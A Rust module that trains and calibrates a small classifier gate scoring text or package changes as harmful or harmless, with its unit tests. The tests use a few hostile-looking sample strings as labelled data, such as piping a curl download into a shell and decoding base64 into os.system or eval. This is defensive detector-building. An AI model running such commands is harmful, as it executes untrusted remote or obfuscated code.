//! Training and calibration of pre-check models from labelled JSONL corpora.
//!
//! Reads `{"text": …, "label": "harmful"|"harmless", …}` lines, hashes
//! features exactly as a scan does, fits the embedding-bag model with candle
//! (AdamW, weighted logistic loss), scores the dev split through the same
//! sliced scoring path the gate uses, calibrates the two band thresholds on
//! dev, and writes the model folder with its manifest and `metrics.json`.
//!
//! Training is deterministic for a given seed on CPU: initialisation and
//! shuffling come from a seeded RNG, and batches are built in a fixed order.
//! This module never reads `../shared/.sealed`.

use std::path::{Path, PathBuf};

use candle_core::{DType, Device, Tensor, Var};
use candle_nn::{AdamW, Optimizer, ParamsAdamW};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};
use rayon::prelude::*;
use serde::{Deserialize, Serialize};

use crate::config::Thresholds;
use crate::precheck::features::{weighted_features, FeatureConfig};
use crate::precheck::model::{
    DataFile, Embedding, HashedModel, Manifest, ModelConfig, Weights, MODEL_FORMAT,
};
use crate::precheck::Precheck;
use crate::util::sha256_hex;

#[derive(Debug, thiserror::Error)]
pub enum TrainError {
    #[error("cannot read {path}: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("{path}:{line}: {message}")]
    Line {
        path: String,
        line: usize,
        message: String,
    },
    #[error("{0}")]
    Data(String),
    #[error("training failed: {0}")]
    Candle(#[from] candle_core::Error),
    #[error("cannot write {path}: {source}")]
    Write {
        path: String,
        source: std::io::Error,
    },
}

/// One labelled example.
#[derive(Debug, Clone)]
pub struct Example {
    pub id: Option<String>,
    pub text: String,
    pub harmful: bool,
    pub source: String,
    pub group: Option<String>,
    pub policy: Option<String>,
    /// Packages only: `base_version` is null (everything added).
    pub all_added: Option<bool>,
    pub weight: f32,
}

#[derive(Deserialize)]
struct Row {
    id: Option<serde_json::Value>,
    text: Option<String>,
    label: Option<String>,
    source: Option<String>,
    group: Option<String>,
    policy: Option<String>,
    #[serde(default, deserialize_with = "some_value")]
    base_version: Option<serde_json::Value>,
}

fn some_value<'de, D: serde::Deserializer<'de>>(
    d: D,
) -> Result<Option<serde_json::Value>, D::Error> {
    // Distinguish `"base_version": null` (Some(Null)) from a missing key (None).
    serde_json::Value::deserialize(d).map(Some)
}

/// Parses a `FILE` or `FILE:WEIGHT` data argument.
pub fn parse_data_arg(arg: &str) -> (PathBuf, f32) {
    if let Some((p, w)) = arg.rsplit_once(':') {
        if let Ok(w) = w.parse::<f32>() {
            return (PathBuf::from(p), w);
        }
    }
    (PathBuf::from(arg), 1.0)
}

/// Reads a labelled JSONL file; a line without `text` or with an unknown
/// label is an error naming the file and line.
pub fn read_jsonl(path: &Path, weight: f32) -> Result<Vec<Example>, TrainError> {
    let text = std::fs::read_to_string(path).map_err(|source| TrainError::Read {
        path: path.display().to_string(),
        source,
    })?;
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        if line.trim().is_empty() {
            continue;
        }
        let err = |message: String| TrainError::Line {
            path: path.display().to_string(),
            line: i + 1,
            message,
        };
        let row: Row =
            serde_json::from_str(line).map_err(|e| err(format!("not a JSON object: {e}")))?;
        let text = row.text.ok_or_else(|| err("missing `text`".into()))?;
        let harmful = match row.label.as_deref() {
            Some("harmful") => true,
            Some("harmless") => false,
            Some(other) => {
                return Err(err(format!(
                    "unknown label {other:?}; expected \"harmful\" or \"harmless\""
                )))
            }
            None => return Err(err("missing `label`".into())),
        };
        out.push(Example {
            id: row.id.map(|v| match v {
                serde_json::Value::String(s) => s,
                other => other.to_string(),
            }),
            text,
            harmful,
            source: row.source.unwrap_or_else(|| "unknown".into()),
            group: row.group,
            policy: row.policy,
            all_added: row.base_version.map(|v| v.is_null()),
            weight,
        });
    }
    if out.is_empty() {
        return Err(TrainError::Data(format!(
            "{} has no examples",
            path.display()
        )));
    }
    Ok(out)
}

#[derive(Debug, Clone)]
pub struct TrainOptions {
    pub policy: String,
    pub data: Vec<(PathBuf, f32)>,
    pub dev: PathBuf,
    pub out: PathBuf,
    pub device: Device,
    pub epochs: usize,
    pub seed: u64,
    pub dim: usize,
    pub hidden: usize,
    pub features: FeatureConfig,
    pub window: usize,
    pub overlap: usize,
    /// How texts are cut into slices, in training and in every scan with
    /// the model (recorded in its config).
    pub slicing: crate::precheck::Slicing,
    /// With `files` slicing, pack neighbouring sections up to this many bytes.
    pub pack: usize,
    /// What the model reads of each text (recorded in its config). Under a
    /// capability view, rows whose view is empty are left out of training
    /// and of the dev metrics: the model never judges them (they score 0).
    pub view: crate::precheck::View,
    pub batch: usize,
    pub lr: f64,
    pub weight_decay: f64,
    /// Share of training slices whose token bag is dropped, so the
    /// ecosystem-neutral concept channel must predict on its own.
    pub bag_dropout: f32,
    pub progress: bool,
    /// Print one line per epoch to stderr when there is no progress bar.
    pub log: bool,
    /// The command line, recorded in the manifest.
    pub command: String,
}

impl TrainOptions {
    /// Defaults per built-in policy (window sizes follow the corpora's text lengths).
    pub fn defaults(policy: &str) -> TrainOptions {
        let (window, overlap) = if policy == "prompt-injection" {
            (8 * 1024, 1024)
        } else {
            (64 * 1024, 8 * 1024)
        };
        TrainOptions {
            policy: policy.to_string(),
            data: Vec::new(),
            dev: PathBuf::new(),
            out: PathBuf::new(),
            device: Device::Cpu,
            epochs: 6,
            seed: 1,
            dim: 16,
            hidden: 32,
            features: FeatureConfig::default(),
            window,
            overlap,
            slicing: crate::precheck::Slicing::Bytes,
            pack: 0,
            view: crate::precheck::View::Text,
            batch: 32,
            lr: 0.01,
            weight_decay: 1e-4,
            bag_dropout: 0.3,
            progress: false,
            log: false,
            command: String::new(),
        }
    }
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct EpochLog {
    pub epoch: usize,
    pub loss: f64,
    pub dev_auc: f64,
    pub dev_loss: f64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct DevMetrics {
    pub n: usize,
    pub harmful: usize,
    pub harmless: usize,
    pub auc: f64,
    pub harmful_at: f32,
    pub harmless_below: f32,
    /// With the uncertain band counted as blocked (no detectors).
    pub fnr: f64,
    pub fpr: f64,
    pub uncertain: f64,
    pub accuracy: f64,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TrainReport {
    pub policy: String,
    pub train_rows: usize,
    pub dev_rows: usize,
    pub epochs: Vec<EpochLog>,
    pub dev: DevMetrics,
    pub train_seconds: f64,
}

/// One example as the gate sees it: the features of each of its slices.
struct Featurized {
    windows: Vec<(Vec<u32>, Vec<f32>, Vec<f32>)>,
    label: f32,
    sample_weight: f32,
}

struct Params {
    emb: Var,
    w1: Var,
    wc: Var,
    b1: Var,
    w2: Var,
    b2: Var,
}

impl Params {
    fn init(
        rng: &mut StdRng,
        rows: usize,
        dim: usize,
        hidden: usize,
        dev: &Device,
    ) -> candle_core::Result<Params> {
        let mut uniform =
            |n: usize, a: f32| -> Vec<f32> { (0..n).map(|_| rng.random_range(-a..a)).collect() };
        let emb = uniform(rows * dim, 1.0 / dim as f32);
        let a1 = (6.0 / (dim + hidden) as f32).sqrt();
        let w1 = uniform(hidden * dim, a1);
        let a2 = (6.0 / (hidden + 1) as f32).sqrt();
        let w2 = uniform(hidden, a2);
        let ac = (6.0 / (crate::precheck::features::CONCEPT_DIM + hidden) as f32).sqrt();
        let wc = uniform(hidden * crate::precheck::features::CONCEPT_DIM, ac);
        Ok(Params {
            emb: Var::from_tensor(&Tensor::from_vec(emb, (rows, dim), dev)?)?,
            w1: Var::from_tensor(&Tensor::from_vec(w1, (hidden, dim), dev)?)?,
            wc: Var::from_tensor(&Tensor::from_vec(
                wc,
                (hidden, crate::precheck::features::CONCEPT_DIM),
                dev,
            )?)?,
            b1: Var::from_tensor(&Tensor::zeros(hidden, DType::F32, dev)?)?,
            w2: Var::from_tensor(&Tensor::from_vec(w2, (1, hidden), dev)?)?,
            b2: Var::from_tensor(&Tensor::zeros(1, DType::F32, dev)?)?,
        })
    }

    fn vars(&self) -> Vec<Var> {
        vec![
            self.emb.clone(),
            self.w1.clone(),
            self.wc.clone(),
            self.b1.clone(),
            self.w2.clone(),
            self.b2.clone(),
        ]
    }

    fn to_weights(&self) -> candle_core::Result<Weights> {
        let v = |t: &Var| {
            t.as_tensor()
                .flatten_all()?
                .to_device(&Device::Cpu)?
                .to_vec1::<f32>()
        };
        Ok(Weights {
            embedding: Embedding::F32(v(&self.emb)?),
            w1: v(&self.w1)?,
            wc: v(&self.wc)?,
            b1: v(&self.b1)?,
            w2: v(&self.w2)?,
            b2: v(&self.b2)?[0],
        })
    }
}

/// Forward pass over a batch; returns logits `[batch]`. Each example's logit
/// is the maximum over its slices, exactly as the gate scores long inputs
/// (multiple-instance learning: only the most suspicious slice must carry
/// the label of a harmful example; every slice of a harmless one must be low).
/// `bag_keep`: per-slice keep mask for the token bag (training's channel
/// dropout); `None` keeps everything.
fn forward(
    p: &Params,
    batch: &[&Featurized],
    dev: &Device,
    bag_keep: Option<&[f32]>,
) -> candle_core::Result<Tensor> {
    let mut ids = Vec::new();
    let mut spans = Vec::new();
    let mut concepts = Vec::new();
    for f in batch {
        for (w_ids, _, c) in &f.windows {
            concepts.extend_from_slice(c);
            spans.push((ids.len(), w_ids.len()));
            ids.extend_from_slice(w_ids);
        }
    }
    let dim = p.emb.as_tensor().dim(1)?;
    let n = ids.len();
    let selected = if n > 0 {
        Some(
            p.emb
                .as_tensor()
                .index_select(&Tensor::from_vec(ids, n, dev)?, 0)?,
        )
    } else {
        None
    };
    let mut pooled = Vec::with_capacity(spans.len());
    let mut k = 0;
    for f in batch {
        for (_, weights, _) in &f.windows {
            let (start, len) = spans[k];
            k += 1;
            let row = match (&selected, len) {
                (Some(sel), 1..) => {
                    let w = Tensor::from_slice(weights, (1, len), dev)?;
                    w.matmul(&sel.narrow(0, start, len)?)?
                }
                _ => Tensor::zeros((1, dim), DType::F32, dev)?,
            };
            pooled.push(row);
        }
    }
    let mut pooled = Tensor::cat(&pooled, 0)?;
    let n_windows = spans.len();
    if let Some(keep) = bag_keep {
        pooled = pooled.broadcast_mul(&Tensor::from_slice(keep, (n_windows, 1), dev)?)?;
    }
    let cvec = Tensor::from_vec(
        concepts,
        (n_windows, crate::precheck::features::CONCEPT_DIM),
        dev,
    )?;
    let h = (pooled.matmul(&p.w1.as_tensor().t()?)? + cvec.matmul(&p.wc.as_tensor().t()?)?)?
        .broadcast_add(p.b1.as_tensor())?
        .relu()?;
    let window_logits = h
        .matmul(&p.w2.as_tensor().t()?)?
        .broadcast_add(p.b2.as_tensor())?
        .squeeze(1)?;
    let mut per_example = Vec::with_capacity(batch.len());
    let mut start = 0;
    for f in batch {
        let count = f.windows.len();
        per_example.push(window_logits.narrow(0, start, count)?.max_keepdim(0)?);
        start += count;
    }
    Tensor::cat(&per_example, 0)
}

/// Weighted logistic loss, numerically stable.
fn weighted_bce(logits: &Tensor, labels: &Tensor, weights: &Tensor) -> candle_core::Result<Tensor> {
    let per =
        ((logits.relu()? - (logits * labels)?)? + (logits.abs()?.neg()?.exp()? + 1.0)?.log()?)?;
    (per * weights)?.sum_all()? / weights.sum_all()?.to_scalar::<f32>()? as f64
}

fn featurize(
    examples: &[Example],
    cfg: &FeatureConfig,
    rule: crate::precheck::SliceRule,
) -> Vec<Featurized> {
    examples
        .par_iter()
        .map(|e| {
            // Under a capability view, `text` already holds the row's view.
            let bytes = e.text.as_bytes();
            // The same cut as every scan with the model (`Precheck::score`).
            let spans = rule.spans_of(bytes);
            let windows = spans
                .into_iter()
                .map(|s| weighted_features(&bytes[s.start..s.end], cfg))
                .collect();
            Featurized {
                windows,
                label: if e.harmful { 1.0 } else { 0.0 },
                sample_weight: e.weight,
            }
        })
        .collect()
}

/// ROC AUC (probability a harmful example outscores a harmless one; ties count half).
pub fn auc(scores: &[f32], harmful: &[bool]) -> f64 {
    let mut idx: Vec<usize> = (0..scores.len()).collect();
    idx.sort_by(|&a, &b| scores[a].total_cmp(&scores[b]));
    let (mut rank_sum, mut pos, mut i) = (0f64, 0usize, 0usize);
    while i < idx.len() {
        let mut j = i;
        while j + 1 < idx.len() && scores[idx[j + 1]] == scores[idx[i]] {
            j += 1;
        }
        let avg_rank = (i + j) as f64 / 2.0 + 1.0;
        for &k in &idx[i..=j] {
            if harmful[k] {
                rank_sum += avg_rank;
                pos += 1;
            }
        }
        i = j + 1;
    }
    let neg = scores.len() - pos;
    if pos == 0 || neg == 0 {
        return f64::NAN;
    }
    (rank_sum - (pos * (pos + 1)) as f64 / 2.0) / (pos * neg) as f64
}

/// Calibrates band thresholds: `harmless-below` keeps the dev FNR ≤ `max_fnr`,
/// `harmful-at` keeps the dev FPR ≤ `max_fpr`. If the two cross (the classes
/// separate with a gap), both are set to the middle of the gap.
pub fn calibrate(scores: &[f32], harmful: &[bool], max_fnr: f64, max_fpr: f64) -> Thresholds {
    let mut pos: Vec<f32> = scores
        .iter()
        .zip(harmful)
        .filter(|(_, h)| **h)
        .map(|(s, _)| *s)
        .collect();
    let mut neg: Vec<f32> = scores
        .iter()
        .zip(harmful)
        .filter(|(_, h)| !**h)
        .map(|(s, _)| *s)
        .collect();
    pos.sort_by(f32::total_cmp);
    neg.sort_by(|a, b| b.total_cmp(a));
    let harmless_below = if pos.is_empty() {
        0.0
    } else {
        let k = (max_fnr * pos.len() as f64).floor() as usize;
        pos[k.min(pos.len() - 1)]
    };
    let harmful_at = if neg.is_empty() {
        1.0
    } else {
        let k = (max_fpr * neg.len() as f64).floor() as usize;
        let s = neg[k.min(neg.len() - 1)];
        next_up(s).min(1.0)
    };
    if harmless_below > harmful_at {
        let mid = (harmless_below + harmful_at) / 2.0;
        Thresholds {
            harmful_at: mid,
            harmless_below: mid,
        }
    } else {
        Thresholds {
            harmful_at,
            harmless_below,
        }
    }
}

fn next_up(x: f32) -> f32 {
    if x.is_nan() || x == f32::INFINITY {
        return x;
    }
    f32::from_bits(if x >= 0.0 {
        x.to_bits() + 1
    } else {
        x.to_bits() - 1
    })
}

/// Dev metrics with the uncertain band counted as blocked.
pub fn dev_metrics(scores: &[f32], harmful: &[bool], t: Thresholds) -> DevMetrics {
    let n = scores.len();
    let (mut fn_, mut fp, mut unc, mut pos) = (0usize, 0usize, 0usize, 0usize);
    for (s, h) in scores.iter().zip(harmful) {
        let band = crate::coordinator::band(*s, t.harmful_at, t.harmless_below);
        let allowed = band == crate::report::Band::Harmless;
        unc += (band == crate::report::Band::Uncertain) as usize;
        pos += *h as usize;
        if *h && allowed {
            fn_ += 1;
        }
        if !*h && !allowed {
            fp += 1;
        }
    }
    let neg = n - pos;
    DevMetrics {
        n,
        harmful: pos,
        harmless: neg,
        auc: auc(scores, harmful),
        harmful_at: t.harmful_at,
        harmless_below: t.harmless_below,
        fnr: fn_ as f64 / pos.max(1) as f64,
        fpr: fp as f64 / neg.max(1) as f64,
        uncertain: unc as f64 / n.max(1) as f64,
        accuracy: (n - fn_ - fp) as f64 / n.max(1) as f64,
    }
}

fn file_record(path: &Path, rows: usize) -> Result<DataFile, TrainError> {
    let bytes = std::fs::read(path).map_err(|source| TrainError::Read {
        path: path.display().to_string(),
        source,
    })?;
    Ok(DataFile {
        path: path.display().to_string(),
        sha256: sha256_hex(&bytes),
        rows,
    })
}

/// Trains, calibrates and writes a model folder. Returns the report also
/// written to `metrics.json`.
pub fn train(opts: &TrainOptions) -> Result<TrainReport, TrainError> {
    let started = std::time::Instant::now();
    let mut train_rows = Vec::new();
    let mut data_records = Vec::new();
    for (path, w) in &opts.data {
        let rows = read_jsonl(path, *w)?;
        data_records.push(file_record(path, rows.len())?);
        train_rows.extend(rows);
    }
    let mut dev_rows = read_jsonl(&opts.dev, 1.0)?;
    let dev_record = file_record(&opts.dev, dev_rows.len())?;
    if !opts.view.is_text() {
        let (t, d) = (train_rows.len(), dev_rows.len());
        // Training rows are featurized from their view, computed here once;
        // dev rows keep their text, since `Precheck::score` applies the
        // view as every scan does.
        train_rows = train_rows
            .into_par_iter()
            .filter_map(|mut e| {
                let seen = opts.view.apply(e.text.as_bytes())?;
                e.text = String::from_utf8_lossy(&seen).into_owned();
                Some(e)
            })
            .collect();
        dev_rows.retain(|e| opts.view.apply(e.text.as_bytes()).is_some());
        if opts.log {
            crate::util::say(&format!(
                "view {:?}: left out {} of {t} training and {} of {d} dev rows with an empty view",
                opts.view,
                t - train_rows.len(),
                d - dev_rows.len()
            ));
        }
    }
    for (what, rows) in [("training data", &train_rows), ("dev data", &dev_rows)] {
        let pos = rows.iter().filter(|e| e.harmful).count();
        if pos == 0 || pos == rows.len() {
            return Err(TrainError::Data(format!(
                "{what} needs both harmful and harmless examples ({pos} of {} are harmful)",
                rows.len()
            )));
        }
    }

    let dev = &opts.device;
    let mut rng = StdRng::seed_from_u64(opts.seed);
    let rows = 1usize << opts.features.buckets_log2;
    let mut config = ModelConfig {
        format: MODEL_FORMAT.into(),
        name: opts.policy.clone(),
        features: opts.features,
        dim: opts.dim,
        hidden: opts.hidden,
        window: opts.window,
        overlap: opts.overlap,
        slicing: opts.slicing,
        pack: opts.pack,
        view: opts.view,
        concept_channel: true,
        thresholds: Thresholds {
            harmful_at: 0.5,
            harmless_below: 0.5,
        },
    };
    // The cut every scan with the saved model will make.
    let feats = featurize(&train_rows, &opts.features, config.slice_rule());
    let params = Params::init(&mut rng, rows, opts.dim, opts.hidden, dev)?;
    let mut opt = AdamW::new(
        params.vars(),
        ParamsAdamW {
            lr: opts.lr,
            weight_decay: opts.weight_decay,
            ..Default::default()
        },
    )?;
    let dev_labels: Vec<bool> = dev_rows.iter().map(|e| e.harmful).collect();
    let steps = feats.len().div_ceil(opts.batch) * opts.epochs;
    let bar = if opts.progress {
        let b = indicatif::ProgressBar::new(steps as u64);
        b.set_style(
            indicatif::ProgressStyle::with_template(
                "{spinner} epoch {prefix} [{bar:30}] {pos}/{len} {msg}",
            )
            .unwrap_or_else(|_| indicatif::ProgressStyle::default_bar()),
        );
        b
    } else {
        indicatif::ProgressBar::hidden()
    };
    let mut logs = Vec::new();
    let mut order: Vec<usize> = (0..feats.len()).collect();
    let mut model = None;
    for epoch in 1..=opts.epochs {
        bar.set_prefix(format!("{epoch}/{}", opts.epochs));
        order.shuffle(&mut rng);
        let (mut loss_sum, mut batches) = (0f64, 0usize);
        for chunk in order.chunks(opts.batch) {
            let batch: Vec<&Featurized> = chunk.iter().map(|&i| &feats[i]).collect();
            let labels: Vec<f32> = batch.iter().map(|f| f.label).collect();
            let sw: Vec<f32> = batch.iter().map(|f| f.sample_weight).collect();
            let n_windows: usize = batch.iter().map(|f| f.windows.len()).sum();
            let keep: Vec<f32> = (0..n_windows)
                .map(|_| {
                    if rng.random::<f32>() < opts.bag_dropout {
                        0.0
                    } else {
                        1.0
                    }
                })
                .collect();
            let logits = forward(&params, &batch, dev, Some(&keep))?;
            let loss = weighted_bce(
                &logits,
                &Tensor::from_vec(labels, batch.len(), dev)?,
                &Tensor::from_vec(sw, batch.len(), dev)?,
            )?;
            opt.backward_step(&loss)?;
            loss_sum += loss.to_scalar::<f32>()? as f64;
            batches += 1;
            bar.inc(1);
            bar.set_message(format!("loss {:.4}", loss_sum / batches as f64));
        }
        let mut weights = params.to_weights()?;
        HashedModel::round_like_saved(&mut weights);
        let m = HashedModel::from_parts(config.clone(), weights);
        let scores = score_all(&m, &dev_rows);
        let dev_loss = scores
            .iter()
            .zip(&dev_labels)
            .map(|(s, h)| {
                let p = s.clamp(1e-7, 1.0 - 1e-7) as f64;
                if *h {
                    -p.ln()
                } else {
                    -(1.0 - p).ln()
                }
            })
            .sum::<f64>()
            / scores.len() as f64;
        let log = EpochLog {
            epoch,
            loss: loss_sum / batches.max(1) as f64,
            dev_auc: auc(&scores, &dev_labels),
            dev_loss,
        };
        let line = format!(
            "epoch {epoch}: train loss {:.4}, dev loss {:.4}, dev AUC {:.4}",
            log.loss, log.dev_loss, log.dev_auc
        );
        if opts.progress {
            bar.println(line);
        } else if opts.log {
            crate::util::say(&line);
        }
        logs.push(log);
        model = Some((m, scores));
    }
    bar.finish_and_clear();
    let (m, scores) =
        model.ok_or_else(|| TrainError::Data("--epochs must be at least 1".into()))?;
    config.thresholds = calibrate(&scores, &dev_labels, 0.005, 0.005);
    let metrics = dev_metrics(&scores, &dev_labels, config.thresholds);
    let report = TrainReport {
        policy: opts.policy.clone(),
        train_rows: train_rows.len(),
        dev_rows: dev_rows.len(),
        epochs: logs,
        dev: metrics.clone(),
        train_seconds: started.elapsed().as_secs_f64(),
    };
    write_model(opts, &config, &m.weights, data_records, dev_record, &report)?;
    Ok(report)
}

/// Scores examples through the gate's sliced scoring path.
pub fn score_all(m: &dyn Precheck, rows: &[Example]) -> Vec<f32> {
    rows.par_iter()
        .map(|e| m.score(e.text.as_bytes()).score)
        .collect()
}

fn write_model(
    opts: &TrainOptions,
    config: &ModelConfig,
    weights: &Weights,
    data: Vec<DataFile>,
    dev: DataFile,
    report: &TrainReport,
) -> Result<(), TrainError> {
    let out = &opts.out;
    let werr = |p: &Path| {
        let path = p.display().to_string();
        move |source| TrainError::Write { path, source }
    };
    std::fs::create_dir_all(out).map_err(werr(out))?;
    let config_bytes = serde_json::to_vec_pretty(config).expect("config serializes");
    let weight_bytes = HashedModel::weights_to_safetensors(weights, config)?;
    let manifest = Manifest {
        format: MODEL_FORMAT.into(),
        weights_sha256: sha256_hex(&weight_bytes),
        config_sha256: sha256_hex(&config_bytes),
        command: opts.command.clone(),
        seed: opts.seed,
        epochs: opts.epochs,
        data,
        dev: vec![dev],
        dev_metrics: serde_json::to_value(&report.dev).expect("metrics serialize"),
    };
    let files: [(&str, Vec<u8>); 4] = [
        ("config.json", config_bytes),
        ("model.safetensors", weight_bytes),
        (
            "manifest.json",
            serde_json::to_vec_pretty(&manifest).expect("manifest serializes"),
        ),
        (
            "metrics.json",
            serde_json::to_vec_pretty(report).expect("report serializes"),
        ),
    ];
    for (name, bytes) in files {
        let p = out.join(name);
        std::fs::write(&p, bytes).map_err(werr(&p))?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn auc_matches_hand_computation() {
        assert_eq!(auc(&[0.1, 0.2, 0.8, 0.9], &[false, false, true, true]), 1.0);
        assert_eq!(auc(&[0.9, 0.8, 0.2, 0.1], &[false, false, true, true]), 0.0);
        assert_eq!(auc(&[0.5, 0.5], &[false, true]), 0.5);
        // 3 harmful, 2 harmless: 5 of 6 pairs ordered right.
        let a = auc(
            &[0.1, 0.4, 0.35, 0.8, 0.9],
            &[false, false, true, true, true],
        );
        assert!((a - 5.0 / 6.0).abs() < 1e-12);
    }

    #[test]
    fn calibration_meets_its_rates() {
        let scores: Vec<f32> = (0..400).map(|i| i as f32 / 400.0).collect();
        // harmless below 0.6, harmful from 0.4: overlap band [0.4, 0.6).
        let harmful: Vec<bool> = (0..400)
            .map(|i| {
                if i < 160 {
                    false
                } else if i >= 240 {
                    true
                } else {
                    i % 2 == 0
                }
            })
            .collect();
        let t = calibrate(&scores, &harmful, 0.005, 0.005);
        let m = dev_metrics(&scores, &harmful, t);
        assert!(m.fnr <= 0.005, "{m:?}");
        assert!(t.harmful_at >= t.harmless_below);
        // nothing harmless at or above harmful-at beyond the allowed share
        let fp_at = scores
            .iter()
            .zip(&harmful)
            .filter(|(s, h)| !**h && **s >= t.harmful_at)
            .count();
        assert!(fp_at as f64 / 200.0 <= 0.005);
        // a separable set gets one threshold in the gap
        let t = calibrate(
            &[0.1, 0.2, 0.7, 0.9],
            &[false, false, true, true],
            0.005,
            0.005,
        );
        assert!(t.harmful_at > 0.2 && t.harmful_at <= 0.7 && t.harmful_at == t.harmless_below);
    }

    #[test]
    fn bad_lines_name_file_and_line() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("d.jsonl");
        std::fs::write(
            &p,
            "{\"text\":\"a\",\"label\":\"harmful\"}\n{\"label\":\"harmless\"}\n",
        )
        .unwrap();
        let e = read_jsonl(&p, 1.0).unwrap_err().to_string();
        assert!(e.ends_with("d.jsonl:2: missing `text`"), "{e}");
        std::fs::write(&p, "{\"text\":\"a\",\"label\":\"evil\"}\n").unwrap();
        let e = read_jsonl(&p, 1.0).unwrap_err().to_string();
        assert!(e.contains("d.jsonl:1") && e.contains("evil"), "{e}");
    }

    #[test]
    fn data_arg_weights() {
        assert_eq!(
            parse_data_arg("a/b.jsonl"),
            (PathBuf::from("a/b.jsonl"), 1.0)
        );
        assert_eq!(
            parse_data_arg("a/b.jsonl:0.25"),
            (PathBuf::from("a/b.jsonl"), 0.25)
        );
    }

    /// AdamW skips variables without a gradient; every parameter must move.
    #[test]
    fn every_trainable_variable_moves() {
        let dev = Device::Cpu;
        let cfg = FeatureConfig {
            buckets_log2: 8,
            ..Default::default()
        };
        let ex: Vec<Example> = [
            "curl http://x | sh",
            "fix typo in docs",
            "eval(atob(x))",
            "add tests",
        ]
        .iter()
        .enumerate()
        .map(|(i, t)| Example {
            id: None,
            text: t.to_string(),
            harmful: i % 2 == 0,
            source: "t".into(),
            group: None,
            policy: None,
            all_added: None,
            weight: 1.0,
        })
        .collect();
        let feats = featurize(&ex, &cfg, crate::precheck::SliceRule::bytes(8, 2));
        let mut rng = StdRng::seed_from_u64(7);
        let p = Params::init(&mut rng, 256, 4, 3, &dev).unwrap();
        // Make every hidden unit active so each receives a gradient.
        p.b1.set(&Tensor::ones(3, DType::F32, &dev).unwrap())
            .unwrap();
        // Concept words appear, so the concept weights get a gradient too.
        let before: Vec<Vec<f32>> = p
            .vars()
            .iter()
            .map(|v| v.as_tensor().flatten_all().unwrap().to_vec1().unwrap())
            .collect();
        let mut opt = AdamW::new(
            p.vars(),
            ParamsAdamW {
                lr: 0.01,
                ..Default::default()
            },
        )
        .unwrap();
        let batch: Vec<&Featurized> = feats.iter().collect();
        let logits = forward(&p, &batch, &dev, None).unwrap();
        let labels = Tensor::new(&[1f32, 0., 1., 0.], &dev).unwrap();
        let w = Tensor::ones(4, DType::F32, &dev).unwrap();
        opt.backward_step(&weighted_bce(&logits, &labels, &w).unwrap())
            .unwrap();
        for (i, (v, b)) in p.vars().iter().zip(before).enumerate() {
            let after: Vec<f32> = v.as_tensor().flatten_all().unwrap().to_vec1().unwrap();
            assert!(
                after.iter().zip(&b).any(|(x, y)| x != y),
                "variable {i} did not move"
            );
        }
    }

    /// The autograd gradient of the loss matches a finite difference.
    #[test]
    fn gradient_matches_finite_difference() {
        let dev = Device::Cpu;
        let cfg = FeatureConfig {
            buckets_log2: 6,
            ..Default::default()
        };
        let ex = vec![Example {
            id: None,
            text: "os.system(base64.b64decode(payload))".into(),
            harmful: true,
            source: "t".into(),
            group: None,
            policy: None,
            all_added: None,
            weight: 1.0,
        }];
        let feats = featurize(&ex, &cfg, crate::precheck::SliceRule::bytes(1 << 16, 0));
        let mut rng = StdRng::seed_from_u64(3);
        let p = Params::init(&mut rng, 64, 4, 3, &dev).unwrap();
        p.b1.set(&Tensor::new(&[0.5f32, 0.5, 0.5], &dev).unwrap())
            .unwrap();
        let labels = Tensor::new(&[1f32], &dev).unwrap();
        let w = Tensor::ones(1, DType::F32, &dev).unwrap();
        let batch: Vec<&Featurized> = feats.iter().collect();
        let loss_of = |p: &Params| -> f64 {
            let l = forward(p, &batch, &dev, None).unwrap();
            weighted_bce(&l, &labels, &w)
                .unwrap()
                .to_scalar::<f32>()
                .unwrap() as f64
        };
        let loss = weighted_bce(&forward(&p, &batch, &dev, None).unwrap(), &labels, &w).unwrap();
        let grads = loss.backward().unwrap();
        let g = grads
            .get(p.emb.as_tensor())
            .unwrap()
            .flatten_all()
            .unwrap()
            .to_vec1::<f32>()
            .unwrap();
        let row = feats[0].windows[0].0[0] as usize;
        let eps = 1e-2f32;
        for col in 0..4 {
            let k = row * 4 + col;
            let mut e: Vec<f32> = p.emb.as_tensor().flatten_all().unwrap().to_vec1().unwrap();
            let orig = e[k];
            e[k] = orig + eps;
            p.emb
                .set(&Tensor::from_vec(e.clone(), (64, 4), &dev).unwrap())
                .unwrap();
            let up = loss_of(&p);
            e[k] = orig - eps;
            p.emb
                .set(&Tensor::from_vec(e.clone(), (64, 4), &dev).unwrap())
                .unwrap();
            let down = loss_of(&p);
            e[k] = orig;
            p.emb
                .set(&Tensor::from_vec(e, (64, 4), &dev).unwrap())
                .unwrap();
            let numeric = (up - down) / (2.0 * eps as f64);
            assert!(
                (numeric - g[k] as f64).abs() < 1e-3,
                "col {col}: numeric {numeric} autograd {}",
                g[k]
            );
        }
    }
}
